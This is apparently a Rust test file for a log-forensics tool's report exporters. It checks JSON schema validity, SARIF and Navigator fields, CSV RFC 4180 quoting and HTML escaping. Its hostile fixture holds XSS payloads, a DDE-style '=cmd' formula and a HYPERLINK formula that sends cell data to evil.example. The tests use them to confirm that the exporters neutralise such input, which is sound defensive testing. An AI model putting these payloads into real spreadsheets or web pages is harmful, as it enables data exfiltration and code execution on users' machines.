//! Every export format on one sample case: golden files
//! (tests/fixtures/report/, `UPDATE_GOLDEN=1` rewrites them), the JSON
//! report against docs/report.schema.json, the Navigator layer and SARIF
//! log against their formats' required fields, CSV and HTML against
//! hostile log text.

use serde_json::Value;
use spoor::analysis::Analysis;
use spoor::detect::builtin_sources;
use spoor::ingest::time::{parse_rfc3339, YearResolver};
use spoor::report::{
    escape_html, render, ExportFormat, ExportOptions, Filter, Level, NavigatorScore, Report,
};
use std::path::{Path, PathBuf};

const ANALYSED_AT: &str = "2026-03-15T08:00:00Z";
const NOTE: &str =
    "Collected by the on-call SRE from the cluster's log bucket; handed over as case 2026-031.";

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/report")
}

fn case_with(filter: Filter) -> Report {
    let files = spoor::generate::generate("anonymous-to-admin", 1).unwrap();
    let mut analysis = Analysis::new(&builtin_sources());
    analysis.set_filter(filter);
    analysis.set_years(YearResolver::with_year(spoor::generate::YEAR));
    for f in &files {
        analysis.open(&f.path, None);
        analysis.push(&f.bytes);
        analysis.close();
    }
    analysis.finish();
    Report::new(&analysis).with_analysed_at(parse_rfc3339(ANALYSED_AT).unwrap())
}

fn case() -> Report {
    case_with(Filter::default())
}

fn options() -> ExportOptions {
    ExportOptions {
        note: Some(NOTE.into()),
        ..Default::default()
    }
}

/// Compares with the golden file, or writes it under UPDATE_GOLDEN=1.
fn golden(name: &str, actual: &str) {
    let path = fixtures().join(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "{}: {e} (run with UPDATE_GOLDEN=1 to write it)",
            path.display()
        )
    });
    if expected != actual {
        let line = expected
            .lines()
            .zip(actual.lines())
            .position(|(a, b)| a != b)
            .map(|i| i + 1);
        panic!(
            "{name} differs from its golden file (first differing line {line:?}); \
             if the change is intended, rerun with UPDATE_GOLDEN=1 and review the diff"
        );
    }
}

#[test]
fn every_format_matches_its_golden_file() {
    let report = case();
    assert!(report.findings.len() > 5, "the sample case has findings");
    for format in ExportFormat::ALL {
        let out = render(&report, format, &options()).unwrap();
        golden(&format!("case.{}", format.extension()), &out);
    }
}

#[test]
fn same_inputs_same_bytes_apart_from_analysed_at() {
    let a = case().to_json();
    let mut later = case();
    later.analysed_at = Some("2030-01-01T00:00:00Z".into());
    let b = later.to_json();
    assert_ne!(a, b);
    assert_eq!(
        a.replace(ANALYSED_AT, "T"),
        b.replace("2030-01-01T00:00:00Z", "T")
    );
    assert_eq!(case().to_json(), a);
}

#[test]
fn report_records_the_rule_pack_and_the_rules_that_fired() {
    let r = case();
    let pack = r.rules.pack.as_ref().expect("built-in pack loaded");
    assert_eq!(pack.version, spoor::VERSION);
    assert_eq!(pack.sha256.len(), 64);
    assert_eq!(r.analysed_at.as_deref(), Some(ANALYSED_AT));
    for f in &r.findings {
        let doc = r.rules.fired.iter().find(|d| d.id == f.rule_id).unwrap();
        assert!(!doc.description.is_empty());
    }
}

// ---- JSON Schema (the subset docs/report.schema.json uses) ----------------

fn type_ok(v: &Value, t: &str) -> bool {
    match t {
        "object" => v.is_object(),
        "array" => v.is_array(),
        "string" => v.is_string(),
        "integer" => v.is_u64() || v.is_i64(),
        "number" => v.is_number(),
        "boolean" => v.is_boolean(),
        "null" => v.is_null(),
        other => panic!("schema uses unsupported type {other}"),
    }
}

/// Validates `v` against `schema`: type, enum, required, properties,
/// additionalProperties (schema form), items. Errors name the JSON path.
fn validate(schema: &Value, v: &Value, path: &str, errors: &mut Vec<String>) {
    let known = [
        "$schema",
        "$id",
        "title",
        "description",
        "type",
        "enum",
        "required",
        "properties",
        "additionalProperties",
        "items",
    ];
    for key in schema.as_object().unwrap().keys() {
        assert!(known.contains(&key.as_str()), "validator lacks {key}");
    }
    if let Some(t) = schema.get("type") {
        let ok = match t {
            Value::String(t) => type_ok(v, t),
            Value::Array(ts) => ts.iter().any(|t| type_ok(v, t.as_str().unwrap())),
            _ => panic!("bad type"),
        };
        if !ok {
            errors.push(format!("{path}: {v} is not of type {t}"));
            return;
        }
    }
    if let Some(Value::Array(options)) = schema.get("enum") {
        if !options.contains(v) {
            errors.push(format!("{path}: {v} not in {options:?}"));
        }
    }
    if let Some(obj) = v.as_object() {
        if let Some(Value::Array(req)) = schema.get("required") {
            for k in req {
                if !obj.contains_key(k.as_str().unwrap()) {
                    errors.push(format!("{path}: missing {k}"));
                }
            }
        }
        let props = schema.get("properties").and_then(Value::as_object);
        for (k, child) in obj {
            match (
                props.and_then(|p| p.get(k)),
                schema.get("additionalProperties"),
            ) {
                (Some(s), _) => validate(s, child, &format!("{path}.{k}"), errors),
                (None, Some(s)) if s.is_object() => {
                    validate(s, child, &format!("{path}.{k}"), errors)
                }
                (None, Some(Value::Bool(false))) => errors.push(format!("{path}: unexpected {k}")),
                _ => {}
            }
        }
    }
    if let (Some(items), Some(arr)) = (schema.get("items"), v.as_array()) {
        for (i, child) in arr.iter().enumerate() {
            validate(items, child, &format!("{path}[{i}]"), errors);
        }
    }
}

fn schema() -> Value {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/report.schema.json");
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn schema_errors(v: &Value) -> Vec<String> {
    let mut errors = Vec::new();
    validate(&schema(), v, "$", &mut errors);
    errors
}

#[test]
fn json_report_validates_against_its_schema() {
    let v: Value = serde_json::from_str(&case().to_json()).unwrap();
    assert_eq!(schema_errors(&v), Vec::<String>::new());
    // Every field the report writes is described (no undocumented field).
    fn described(schema: &Value, v: &Value, path: &str) {
        if let (Some(obj), Some(props)) = (
            v.as_object(),
            schema.get("properties").and_then(Value::as_object),
        ) {
            for (k, child) in obj {
                let s = props
                    .get(k)
                    .unwrap_or_else(|| panic!("{path}.{k} is not in the schema"));
                described(s, child, &format!("{path}.{k}"));
            }
        }
        if let (Some(items), Some(arr)) = (schema.get("items"), v.as_array()) {
            for child in arr {
                described(items, child, path);
            }
        }
    }
    described(&schema(), &v, "$");
    // A report without a time of analysis or pack is still valid.
    let mut bare: Value = v.clone();
    bare["analysed_at"] = Value::Null;
    bare["rules"]["pack"] = Value::Null;
    assert!(schema_errors(&bare).is_empty());
}

#[test]
fn the_validator_catches_a_broken_report() {
    let mut v: Value = serde_json::from_str(&case().to_json()).unwrap();
    v["findings"][0]["level"] = "severe".into();
    v["inputs"][0].as_object_mut().unwrap().remove("sha256");
    v["summary"]["users"]["x"] = "many".into();
    let errors = schema_errors(&v);
    assert_eq!(errors.len(), 3, "{errors:#?}");
    assert!(errors.iter().any(|e| e.contains("$.findings[0].level")));
    assert!(errors.iter().any(|e| e.contains("missing \"sha256\"")));
    assert!(errors.iter().any(|e| e.contains("$.summary.users.x")));
}

#[test]
fn the_markdown_schema_documents_every_top_level_field() {
    let md = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/report-schema.md"),
    )
    .unwrap();
    let v: Value = serde_json::from_str(&case().to_json()).unwrap();
    for k in v.as_object().unwrap().keys() {
        assert!(
            md.contains(&format!("`{k}")),
            "docs/report-schema.md lacks {k}"
        );
    }
}

// ---- Filters ---------------------------------------------------------------

#[test]
fn min_level_and_window_filter_findings_and_events() {
    let all = case();
    // The case's only critical finding is the anonymous user bound to
    // cluster-admin: min_level keeps exactly the critical findings.
    let critical = case_with(Filter {
        min_level: Some(Level::Critical),
        ..Default::default()
    });
    let expected: Vec<_> = all
        .findings
        .iter()
        .filter(|f| f.level == "critical")
        .cloned()
        .collect();
    assert!(!expected.is_empty() && expected.len() < all.findings.len());
    assert_eq!(critical.findings, expected);
    assert_eq!(critical.filters.min_level.as_deref(), Some("critical"));
    assert_eq!(critical.summary.events, all.summary.events);
    // `high` keeps high and critical findings only.
    let high = case_with(Filter {
        min_level: Some(Level::High),
        ..Default::default()
    });
    assert!(high
        .findings
        .iter()
        .all(|f| f.level == "high" || f.level == "critical"));
    assert!(high.findings.len() < all.findings.len());

    let times: Vec<i64> = all
        .findings
        .iter()
        .filter_map(|f| f.time.as_deref().and_then(parse_rfc3339))
        .collect();
    let (since, until) = (times[2], times[times.len() - 3]);
    let window = case_with(Filter {
        since: Some(since),
        until: Some(until),
        ..Default::default()
    });
    assert!(window.findings.len() < all.findings.len());
    assert!(!window.findings.is_empty());
    for f in &window.findings {
        let t = parse_rfc3339(f.time.as_deref().unwrap()).unwrap();
        assert!(since <= t && t <= until, "{f:?}");
    }
    assert!(window.summary.events < all.summary.events);
    assert!(window
        .diagnostics
        .iter()
        .any(|d| d.message.contains("outside the window were skipped")));
    assert!(schema_errors(&serde_json::from_str(&window.to_json()).unwrap()).is_empty());
}

// ---- NDJSON, CSV, Timesketch ------------------------------------------------

#[test]
fn ndjson_has_one_finding_per_line() {
    let r = case();
    let out = render(&r, ExportFormat::Ndjson, &options()).unwrap();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), r.findings.len());
    for (line, f) in lines.iter().zip(&r.findings) {
        let v: Value = serde_json::from_str(line).unwrap();
        assert_eq!(v["rule_id"], f.rule_id.as_str());
    }
}

/// An RFC 4180 reader, to read the CSV back.
fn parse_csv(s: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell) = (Vec::new(), String::new());
    let mut chars = s.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "CR without LF");
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, '\n') => panic!("bare LF outside quotes"),
            (false, c) => cell.push(c),
        }
    }
    assert!(cell.is_empty() && row.is_empty(), "last row not ended");
    rows
}

fn hostile() -> Report {
    let mut r = case();
    let f = &mut r.findings[0];
    f.title = "<script>alert('title')</script>".into();
    f.matched = vec![
        (
            "requestURI".into(),
            "\"><img src=x onerror=alert(1)>".into(),
        ),
        ("userAgent".into(), "javascript:alert(2)".into()),
        (
            "cmd".into(),
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into(),
        ),
        (
            "multi".into(),
            "line one\r\nline two, \"quoted\"\u{1b}[2J".into(),
        ),
    ];
    f.evidence[0].path = "logs/<b>bold</b>,\"odd\".log".into();
    r.inputs[0].path = "logs/<iframe src=\"https://evil.example/\"></iframe>".into();
    r.incidents.push(spoor::report::Incident {
        id: "inc-<svg onload=alert(3)>".into(),
        score: 90,
        level: "high".into(),
        findings: vec![0],
        narrative: vec![
            "<a href=\"javascript:alert(4)\">click</a> then <style>body{display:none}</style>"
                .into(),
        ],
        first_seen: None,
        last_seen: None,
        entities: Vec::new(),
        tactics: vec!["<b>execution</b>".into()],
        story: Vec::new(),
    });
    r
}

#[test]
fn csv_is_rfc4180_and_neutralises_formulas() {
    let r = hostile();
    let out = render(&r, ExportFormat::Csv, &options()).unwrap();
    let rows = parse_csv(&out);
    assert_eq!(rows.len(), r.findings.len() + 1);
    assert!(rows.iter().all(|row| row.len() == rows[0].len()));
    assert_eq!(rows[0][0], "time");
    let matched = &rows[1][9];
    assert!(
        matched.contains("line one\r\nline two, \"quoted\""),
        "{matched}"
    );
    assert_eq!(rows[1][5], "logs/<b>bold</b>,\"odd\".log");
    // A cell that starts a formula gets a leading quote.
    let mut formula = r.clone();
    formula.findings[0].title = "=cmd|' /C calc'!A0".into();
    formula.findings[0].rule_id = "+1".into();
    formula.findings[0].evidence[0].path = "@SUM(1)".into();
    formula.findings[0].techniques = vec!["-2".into()];
    let rows = parse_csv(&render(&formula, ExportFormat::Csv, &options()).unwrap());
    assert_eq!(rows[1][3], "'=cmd|' /C calc'!A0");
    assert_eq!(rows[1][2], "'+1");
    assert_eq!(rows[1][5], "'@SUM(1)");
    assert_eq!(rows[1][4], "'-2");
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
        }
    }
}

#[test]
fn timesketch_lines_have_the_required_fields() {
    let r = case();
    let out = render(&r, ExportFormat::Timesketch, &options()).unwrap();
    let timed = r.findings.iter().filter(|f| f.time.is_some()).count();
    assert_eq!(out.lines().count(), timed);
    for (line, f) in out
        .lines()
        .zip(r.findings.iter().filter(|f| f.time.is_some()))
    {
        let v: Value = serde_json::from_str(line).unwrap();
        for k in ["message", "datetime", "timestamp", "timestamp_desc"] {
            assert!(v.get(k).is_some(), "{k} missing: {line}");
        }
        for k in ["rule", "level", "techniques", "path", "line"] {
            assert!(v.get(k).is_some(), "{k} missing: {line}");
        }
        let ns = parse_rfc3339(f.time.as_deref().unwrap()).unwrap();
        assert_eq!(v["timestamp"].as_i64(), Some(ns / 1000));
        let dt = v["datetime"].as_str().unwrap();
        assert_eq!(parse_rfc3339(dt).map(|n| n / 1000), Some(ns / 1000), "{dt}");
        assert!(dt.ends_with("+00:00") && dt.len() == "2026-03-14T02:01:48.644320+00:00".len());
    }
}

// ---- Navigator ----------------------------------------------------------------

#[test]
fn navigator_layer_has_the_required_fields() {
    let r = case();
    for score in [NavigatorScore::Count, NavigatorScore::MaxLevel] {
        let opts = ExportOptions {
            navigator_score: score,
            ..Default::default()
        };
        let v: Value =
            serde_json::from_str(&render(&r, ExportFormat::Navigator, &opts).unwrap()).unwrap();
        // Layer format 4.5: name and domain required; versions.layer "4.5"
        // and versions.navigator >= 4.9.0 when versions is given.
        assert!(v["name"].is_string());
        assert_eq!(v["domain"], "enterprise-attack");
        assert_eq!(v["versions"]["layer"], "4.5");
        let nav: Vec<u32> = v["versions"]["navigator"]
            .as_str()
            .unwrap()
            .split('.')
            .map(|p| p.parse().unwrap())
            .collect();
        assert!(nav >= vec![4, 9, 0]);
        let g = &v["gradient"];
        assert!(g["colors"].as_array().unwrap().len() >= 2);
        assert!(g["maxValue"].as_f64() > g["minValue"].as_f64());
        for m in v["metadata"].as_array().unwrap() {
            assert!(m["name"].is_string() && m["value"].is_string(), "{m}");
        }
        let techniques = v["techniques"].as_array().unwrap();
        let mut expected: Vec<&str> = r
            .findings
            .iter()
            .flat_map(|f| f.techniques.iter().map(String::as_str))
            .collect();
        expected.sort();
        expected.dedup();
        assert_eq!(techniques.len(), expected.len());
        for t in techniques {
            let id = t["techniqueID"].as_str().unwrap();
            assert!(expected.contains(&id));
            let score_value = t["score"].as_u64().unwrap();
            let count = r
                .findings
                .iter()
                .filter(|f| f.techniques.iter().any(|x| x == id))
                .count() as u64;
            match score {
                NavigatorScore::Count => assert_eq!(score_value, count),
                NavigatorScore::MaxLevel => assert!((1..=5).contains(&score_value)),
            }
            assert!(score_value as f64 <= g["maxValue"].as_f64().unwrap());
            for m in t["metadata"].as_array().unwrap() {
                assert!(m["name"].is_string() && m["value"].is_string(), "{m}");
            }
        }
    }
}

// ---- SARIF ----------------------------------------------------------------------

#[test]
fn sarif_has_the_required_fields() {
    let r = case();
    let v: Value =
        serde_json::from_str(&render(&r, ExportFormat::Sarif, &options()).unwrap()).unwrap();
    assert_eq!(v["version"], "2.1.0");
    assert!(v["$schema"].as_str().unwrap().contains("sarif-2.1.0"));
    let run = &v["runs"][0];
    let driver = &run["tool"]["driver"];
    assert_eq!(driver["name"], "spoor");
    let rules = driver["rules"].as_array().unwrap();
    for rule in rules {
        assert!(rule["id"].is_string());
        assert!(rule["name"].is_string());
        assert!(rule["shortDescription"]["text"].is_string());
        assert!(rule["helpUri"].as_str().unwrap().starts_with("https://"));
        assert!(rule["properties"]["tags"].as_array().unwrap().len() > 1);
    }
    let artifacts = run["artifacts"].as_array().unwrap();
    assert_eq!(artifacts.len(), r.inputs.len());
    for (a, i) in artifacts.iter().zip(&r.inputs) {
        assert_eq!(a["hashes"]["sha-256"], i.sha256.as_str());
        assert!(a["location"]["uri"].is_string());
    }
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), r.findings.len());
    for (res, f) in results.iter().zip(&r.findings) {
        assert_eq!(res["ruleId"], f.rule_id.as_str());
        let level = res["level"].as_str().unwrap();
        let want = match f.level.as_str() {
            "critical" | "high" => "error",
            "medium" => "warning",
            _ => "note",
        };
        assert_eq!(level, want);
        assert!(res["message"]["text"].is_string());
        let index = res["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[index]["id"], f.rule_id.as_str());
        let loc = &res["locations"][0]["physicalLocation"];
        assert!(loc["artifactLocation"]["uri"].is_string());
        assert_eq!(loc["region"]["startLine"], f.evidence[0].line);
        let art = loc["artifactLocation"]["index"].as_u64().unwrap() as usize;
        assert_eq!(
            artifacts[art]["location"]["uri"],
            loc["artifactLocation"]["uri"]
        );
    }
    assert_eq!(run["invocations"][0]["executionSuccessful"], true);
}

// ---- HTML ------------------------------------------------------------------------

#[test]
fn html_is_self_contained_and_escapes_log_text() {
    let r = hostile();
    let html = render(
        &r,
        ExportFormat::Html,
        &ExportOptions {
            note: Some("note <script>alert('note')</script>".into()),
            ..Default::default()
        },
    )
    .unwrap();
    // The hostile case is also the e2e test's input (tests/e2e/report.test.mjs).
    golden("hostile.html", &html);
    let lower = html.to_ascii_lowercase();
    assert!(lower.contains("content-security-policy"));
    assert!(html.contains("default-src 'none'; style-src 'unsafe-inline'"));
    // Every `<` left in the markup opens one of the report's own elements,
    // none of which loads or runs anything.
    let allowed = [
        "!doctype", "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3",
        "p", "section", "div", "b", "table", "thead", "tbody", "tr", "th", "td", "span", "code",
        "ul", "ol", "li", "dl", "dt", "dd", "br", "svg", "rect", "text", "line", "circle",
        "footer",
    ];
    for (name, attrs) in tags(&html) {
        assert!(
            allowed.contains(&name.as_str()),
            "<{name}> in the HTML report"
        );
        for a in attrs {
            assert!(
                !a.starts_with("on")
                    && !["src", "href", "xlink:href", "action", "srcset"].contains(&a.as_str()),
                "attribute {a} on <{name}>"
            );
        }
    }
    assert!(!lower.contains("url(") && !lower.contains("@import"));
    assert!(html.contains("&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt;"));
    assert!(html.contains("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"));
    assert!(html.contains("javascript:alert(2)"));
    assert!(html.contains("\\u{1b}[2J"));
    // Exactly one <style> element: the report's own (the hostile one is text).
    assert_eq!(lower.matches("<style>").count(), 1);
    assert_eq!(lower.matches("<svg").count(), 1);
    // The sample case's golden HTML has the sections a handover needs.
    let html = render(&case(), ExportFormat::Html, &options()).unwrap();
    for section in [
        "summary",
        "custody",
        "timeline",
        "findings",
        "incidents",
        "rules",
        "diagnostics",
    ] {
        assert!(
            html.contains(&format!("<section id=\"{section}\">")),
            "{section}"
        );
    }
    assert!(html.contains(&escape_html(NOTE)));
    for i in &case().inputs {
        assert!(html.contains(&i.sha256));
    }
    assert!(html.contains(&escape_html(case().rules.pack.unwrap().sha256.as_str())));
}

/// (name, attribute names) of every start tag, read the way a browser
/// would: a `<` followed by a letter or `!` opens a tag, quoted attribute
/// values may hold anything.
fn tags(html: &str) -> Vec<(String, Vec<String>)> {
    let mut out = Vec::new();
    let b: Vec<char> = html.chars().collect();
    let mut i = 0;
    while i < b.len() {
        if b[i] != '<'
            || !b
                .get(i + 1)
                .is_some_and(|c| c.is_ascii_alphabetic() || *c == '!')
        {
            i += 1;
            continue;
        }
        let mut j = i + 1;
        let mut name = String::new();
        while j < b.len() && !b[j].is_whitespace() && b[j] != '>' && b[j] != '/' {
            name.push(b[j].to_ascii_lowercase());
            j += 1;
        }
        let mut attrs = Vec::new();
        let mut word = String::new();
        let mut quote: Option<char> = None;
        while j < b.len() {
            let c = b[j];
            match quote {
                Some(q) if c == q => quote = None,
                Some(_) => {}
                None if c == '"' || c == '\'' => quote = Some(c),
                None if c == '>' => break,
                None if c == '=' => attrs.push(std::mem::take(&mut word).to_ascii_lowercase()),
                None if c.is_whitespace() || c == '/' => word.clear(),
                None => word.push(c),
            }
            j += 1;
        }
        out.push((name, attrs));
        i = j;
    }
    out
}
